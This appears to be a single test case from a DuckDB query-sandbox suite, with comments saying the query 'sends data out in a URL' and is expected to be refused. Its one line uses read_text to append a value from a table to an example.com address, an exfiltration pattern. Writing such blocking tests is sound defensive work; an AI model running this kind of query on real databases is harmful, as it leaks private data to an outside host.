-- Sends data out in a URL.
-- stopped by: duckdb, then system
-- seen as: internal: refused
-- alone: duckdb, system
select * from read_text('https://example.com/?q=' || (select max(a) from source))
